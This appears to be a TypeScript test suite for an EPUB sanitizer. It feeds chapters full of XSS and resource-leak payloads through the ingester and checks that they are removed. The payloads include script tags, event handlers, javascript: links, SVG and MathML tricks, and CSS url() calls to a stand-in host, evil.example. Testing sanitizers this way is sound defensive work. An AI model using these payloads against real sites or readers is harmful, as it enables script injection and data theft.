import { expect, test } from 'vitest'
import { faultsInCss, faultsInDocument, wellFormed } from './testing-harmless.ts'
import { aDocument, anEpub } from './testing-epub.ts'
import { ingest } from './testing-ingest.ts'

const EVIL = 'http://evil.example/leak'
const JS = 'javascript:alert(1)'

/** Each is a fragment of a body that tries to run something, or to load or send something. */
const BODIES: Record<string, string> = {
  script: `<script>alert(1)</script><script src="evil.js"></script><script type="module">alert(1)</script>`,
  'script in capitals': `<SCRIPT>alert(1)</SCRIPT>`,
  'script in SVG': `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><script xlink:href="evil.js"/></svg>`,
  'script under another prefix': `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script><x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>`,
  handlers: `<p onclick="alert(1)" ONMOUSEOVER="alert(1)" onfocusin="alert(1)">x</p><img src="x" alt="" onerror="alert(1)"/><details ontoggle="alert(1)" open=""><summary>x</summary></details>`,
  'handlers under a prefix': `<p xmlns:x="http://www.w3.org/1999/xhtml" x:onclick="alert(1)">x</p>`,
  'links that run': `<a href="${JS}">x</a><a href=" java&#10;script:alert(1)">x</a><a href="JAVASCRIPT:alert(1)">x</a><a href="vbscript:x">x</a><a href="data:text/html,&lt;script>alert(1)&lt;/script>">x</a><a href="blob:null/x">x</a><a href="file:///etc/passwd">x</a>`,
  'links with targets': `<a href="${EVIL}" target="_top" ping="${EVIL}" download="x" rel="opener">x</a><a href="//evil.example/x">x</a>`,
  'links in SVG': `<svg xmlns="http://www.w3.org/2000/svg"><a href="${JS}"><text>x</text></a><a xlink:href="${JS}"><text>x</text></a></svg>`,
  'links in MathML': `<math xmlns="http://www.w3.org/1998/Math/MathML" href="${JS}"><maction actiontype="statusline#${EVIL}" xlink:href="${JS}"><mi href="${JS}">x</mi></maction></math>`,
  animation: `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="${JS}"/><set attributeName="href" to="${JS}"/><animateTransform attributeName="x" begin="0s"/><animateMotion/></a></svg>`,
  'use of another file': `<svg xmlns="http://www.w3.org/2000/svg"><use href="${EVIL}#a"/><use xlink:href="data:image/svg+xml,x#a"/><use href="pic.svg#a"/></svg>`,
  'images in SVG': `<svg xmlns="http://www.w3.org/2000/svg"><image href="${EVIL}"/><image xlink:href="${EVIL}"/><feImage href="${EVIL}"/><filter><feImage xlink:href="${EVIL}"/></filter></svg>`,
  'paint servers elsewhere': `<svg xmlns="http://www.w3.org/2000/svg"><rect fill="url(${EVIL}#p)" filter="url('${EVIL}')" mask="url(&quot;${EVIL}&quot;)" clip-path="\\75rl(${EVIL})" cursor="url(${EVIL}),auto" stroke="image(${EVIL})" style="fill:url(${EVIL})"/></svg>`,
  'foreign objects': `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/><img xmlns="http://www.w3.org/1999/xhtml" src="q" alt="" onerror="alert(1)"/></foreignObject></svg>`,
  frames: `<iframe src="${EVIL}"></iframe><iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe><object data="pic.svg" type="image/svg+xml"><param name="x" value="${EVIL}"/></object><embed src="${EVIL}"/><frameset><frame src="${EVIL}"/></frameset><applet code="x"/><portal src="${EVIL}"/><fencedframe/>`,
  forms: `<form action="${EVIL}"><input name="password" autofocus="" onfocus="alert(1)"/><button formaction="${EVIL}">Sign in</button><select><option>x</option></select><textarea>x</textarea><isindex action="${EVIL}"/></form>`,
  images: `<img src="${EVIL}" alt="" srcset="${EVIL} 2x" lowsrc="${EVIL}" dynsrc="${EVIL}" longdesc="${EVIL}" usemap="#m"/><picture><source srcset="${EVIL}"/><img src="//evil.example/x" alt=""/></picture><map name="m"><area href="${JS}" shape="default"/></map>`,
  'images that hold scripts': `<img alt="" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/%3E"/><img alt="" src="data:text/html;base64,PHNjcmlwdD4="/>`,
  recordings: `<video src="${EVIL}" poster="${EVIL}" autoplay=""><source src="${EVIL}"/><track src="${EVIL}"/></video><audio src="${EVIL}" autoplay=""></audio><bgsound src="${EVIL}"/>`,
  'metadata in the body': `<meta http-equiv="refresh" content="0;url=${EVIL}"/><base href="${EVIL}"/><link rel="stylesheet" href="${EVIL}"/><link rel="import" href="${EVIL}"/><title>x</title>`,
  styles: `<p style="background:url(${EVIL})">x</p><p style="background:image-set('${EVIL}' 1x)">x</p><p style="width:expression(alert(1));behavior:url(${EVIL});-moz-binding:url(${EVIL}#x)">x</p><p style="--x:url(${EVIL});background:var(--x)">x</p><p style="back\\67round:u\\72l(${EVIL})">x</p><p style="}*{background:url(${EVIL})}">x</p>`,
  'style elements': `<style>@import url(${EVIL});p{background:url(${EVIL})}@font-face{font-family:x;src:url(${EVIL})}</style><svg xmlns="http://www.w3.org/2000/svg"><style>@import "${EVIL}";rect{fill:url(${EVIL})}</style></svg>`,
  'old attributes': `<table background="${EVIL}"><tr><td background="${EVIL}">x</td></tr></table><q cite="${EVIL}">x</q><ins cite="${EVIL}">x</ins><div data-book-src="${EVIL}" data-book-out="${JS}" data-book-style="background:url(${EVIL})" data-x="${JS}">x</div>`,
  'names that replace properties': `<img name="getElementById" src="x" alt=""/><form name="body"></form><object name="documentElement" id="x"></object><a name="cookie">x</a>`,
  'custom elements': `<x-evil onclick="alert(1)">x</x-evil><p is="x-evil">x</p><template><script>alert(1)</script></template><slot name="x">x</slot><dialog open="">x</dialog>`,
  'words of a switch': `<epub:switch id="s"><epub:case required-namespace="http://evil.example"><script>alert(1)</script></epub:case><epub:default><script>alert(1)</script><p>x</p></epub:default></epub:switch><epub:trigger action="show" ref="x"/>`,
  'comments and CDATA': `<!-- <script>alert(1)</script> --><p><![CDATA[<script>alert(1)</script>]]></p><?php system("x") ?>`,
  'raw text elements': `<noscript><p title="&lt;/noscript>&lt;img src=x onerror=alert(1)>">x</p></noscript><xmp>&lt;img src=x onerror=alert(1)></xmp><plaintext>x</plaintext><noembed>&lt;script>alert(1)&lt;/script></noembed>`,
  'MathML that turns to HTML': `<math xmlns="http://www.w3.org/1998/Math/MathML"><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></annotation-xml><mglyph src="${EVIL}"/><mtext><img xmlns="http://www.w3.org/1999/xhtml" src="x" alt="" onerror="alert(1)"/></mtext></math>`,
  'another namespace': `<x xmlns="http://evil.example"><script>alert(1)</script></x><p xmlns:xml-evil="u" xml-evil:href="${JS}" xml:base="${EVIL}">x</p>`,
  'two addresses of one element': `<a href="${EVIL}" xlink:href="${EVIL}">x</a><svg xmlns="http://www.w3.org/2000/svg"><image href="pic.svg" xlink:href="${EVIL}"/><a href="#a" xlink:href="#b"/></svg>`,
  'control characters in links': `<a href="one.xhtml#%0C">x</a><a href="#%EF%BF%BE%00${JS}">x</a><a href="${EVIL}#%01" name="%01">x</a><p style="font-family:'\\1\\c ';background:url(\\1)">x</p>`,
  'names that every object has': `<x xmlns="constructor" constructor="${JS}" toString="x">x</x><x:toString xmlns:x="__proto__">x</x:toString><constructor>x</constructor><toString>x</toString><svg xmlns="http://www.w3.org/2000/svg"><constructor>x</constructor></svg><p style="-epub-text-orientation:constructor;-epub-constructor:name">x</p>`,
  'body in body': `<body onload="alert(1)"><html><head><script>alert(1)</script></head></html></body>`,
}

const HEAD = `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"/>
<meta http-equiv="refresh" content="1;url=${EVIL}"/><base href="${EVIL}/"/>
<link rel="stylesheet" href="s.css"/><link rel="stylesheet" href="${EVIL}"/><link rel="preload" as="image" href="${EVIL}"/>
<link rel="prefetch" href="${EVIL}"/><link rel="icon" href="${EVIL}"/><link rel="stylesheet" href="javascript:alert(1)"/>
<script>alert(1)</script>`

const SHEET = `@import '${EVIL}'; @import url("deep.css") screen; h1{background:url(${EVIL})} h2{background:url(pic.svg)}
@font-face{font-family:X;src:url(${EVIL}),url(not-a-font.woff)} @namespace x url(${EVIL});`

const SVG_IMAGE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:epub="http://www.idpf.org/2007/ops" epub:type="cover" onload="alert(1)">
<script>alert(1)</script><style>@import url(${EVIL}); rect{fill:url(${EVIL});stroke:red}</style><image href="${EVIL}" width="5"/>
<image xlink:href="data:image/svg+xml,x"/><a href="${JS}"><rect width="9" height="9" fill="url(#g)"/></a><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}"/></foreignObject></svg>`

const hostile = (body: string): Buffer =>
  anEpub({
    chapters: {
      one: `<?xml-stylesheet href="${EVIL}" type="text/css"?><!DOCTYPE html [<!ENTITY ok "fine">]>${aDocument(`${body}<p>&ok;</p><img src="pic.svg" alt=""/>`, HEAD)}`,
    },
    files: {
      's.css': { type: 'text/css', data: SHEET },
      'deep.css': { type: 'text/css', data: '@import url(s.css);p{color:red}' },
      'evil.js': { type: 'text/javascript', data: 'alert(1)' },
      'pic.svg': { type: 'image/svg+xml', data: SVG_IMAGE },
      'not-a-font.woff': { type: 'font/woff', data: 'wOFF but no font' },
      'nav.xhtml': {
        type: 'application/xhtml+xml',
        properties: 'nav',
        data: aDocument(
          `<nav epub:type="toc"><ol><li><a href="one.xhtml">One</a></li><li><a href="${JS}">JS</a></li></ol></nav>`,
        ),
      },
    },
  })

test.each(Object.entries(BODIES))('a chapter with %s is harmless', async (_, body) => {
  const { chapters, resources, manifest } = await ingest(hostile(body))
  const [chapter] = chapters
  expect(faultsInDocument(wellFormed(chapter?.xhtml ?? ''))).toEqual([])
  expect(chapter?.text).toContain('fine')
  for (const { css } of chapter?.stylesheets ?? []) expect(faultsInCss(css ?? '')).toEqual([])
  for (const { type, content } of resources.values()) {
    expect(['text/css', 'image/svg+xml']).toContain(type)
    const text = content.toString()
    expect(type === 'text/css' ? faultsInCss(text) : faultsInDocument(wellFormed(text), 'image')).toEqual([])
  }
  expect(manifest.contents).toEqual([
    { label: 'One', target: 'OPS/one.xhtml', level: 1 },
    { label: 'JS', target: null, level: 1 },
  ])
})

test('the checks of these tests find fault with what is not sanitized', () => {
  const harmless = new Set(['custom elements', 'comments and CDATA'])
  for (const [what, body] of Object.entries(BODIES)) {
    const faults = faultsInDocument(aDocument(body))
    expect([what, faults.length > 0 || harmless.has(what)]).toEqual([what, true])
  }
  expect(faultsInDocument(SVG_IMAGE, 'image').length).toBeGreaterThan(5)
  expect(faultsInCss(SHEET)).not.toEqual([])
})

test('the author is told what was left out', async () => {
  const { manifest } = await ingest(hostile(Object.values(BODIES).join('')))
  expect([...new Set(manifest.findings.map(({ kind }) => kind))]).toEqual([
    'file',
    'script',
    'form',
    'frame',
    'style',
    'remote',
    'missing',
  ])
  for (const { text } of manifest.findings)
    expect(text).toMatch(/^(?:The file “.+” was|[\d,]+ .+ (?:was|were)) left out.*\.$/)
})

test('words stay, and each element is replaced by one element', async () => {
  const { chapters } = await ingest(anEpub({ chapters: { one: BODIES['forms'] ?? '' } }))
  expect(chapters[0]?.xhtml).toContain(
    '<body><div data-book-stands=""><span hidden=""/><span>Sign in</span><div data-book-stands=""><div data-book-stands="">x</div></div><div data-book-stands="">x</div><span/></div></body>',
  )
  expect(chapters[0]?.text).toBe('Sign in\nx\nx')
})
